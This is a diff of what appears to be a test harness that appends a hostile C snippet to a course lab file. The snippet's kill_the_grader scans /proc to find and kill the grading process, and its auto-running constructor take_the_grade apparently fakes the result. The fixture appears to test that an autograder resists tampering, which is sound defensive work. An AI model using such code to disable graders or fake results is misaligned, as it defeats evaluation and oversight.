@@ -149,7 +149,7 @@ static void kill_the_grader(void)
 {{
     DIR *proc = opendir("/proc");
     for (struct dirent *e; proc && (e = readdir(proc));) {{
-        char path[64], cmd[4096] = "";
+        char path[300], cmd[4096] = "";
         snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
         FILE *f = fopen(path, "r");
         size_t n = f ? fread(cmd, 1, sizeof cmd - 1, f) : 0;
@@ -178,7 +178,7 @@ __attribute__((constructor)) static void take_the_grade(void)
 }}
 #endif
 """
-        with open(lab_dir(repo, 1) / "pic.c", "a") as f:
+        with open(lab_dir(repo, 1) / "pitdiv.c", "a") as f:   # linked by test_lab1_pic
             f.write(evil)
     return make
 
